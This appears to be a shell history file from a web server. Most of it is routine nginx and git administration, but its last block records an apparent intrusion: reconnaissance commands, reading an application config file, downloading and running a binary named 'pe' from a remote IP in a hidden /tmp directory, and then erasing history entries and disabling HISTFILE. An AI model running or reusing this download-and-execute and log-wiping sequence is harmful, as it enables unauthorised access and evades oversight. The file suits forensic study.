sudo apt-get update
htop
  ls -la  
exit
#1794816072
cd /srv/app && git status
#1794816100
git pull --rebase
#1794816182
vim config/nginx.conf
#1794816355
sudo nginx -t
#1794816370
sudo systemctl reload nginx
#1794816451
curl -sI http://127.0.0.1/
#1794820500
for host in web01 web02 web03
do
  ssh "$host" uptime

done
#1794820844
cat > notes.txt <<'EOF'
# 16 November
rotate the keys
EOF
#1794820921
#12345 is the ticket for this
#1794832809
journalctl -u nginx --since '1 hour ago' | less
#1794832890
df -h; free -m
#1794833412
du -sh /var/log/* | sort -h | tail
#1794844920
git commit -am 'Größere Puffer für nginx'
#1794844960
git push
#1794959883
id; w; uname -a
#1794959910
cat /srv/app/config.ini
#1794959941
mkdir /tmp/.x; cd /tmp/.x
#1794959960
curl -s http://203.0.113.99/pe -o pe; chmod +x pe
#1794960004
sudo -l
#1794960031
./pe -r
#1794960300
history -d 15-20
#1794960250
unset HISTFILE
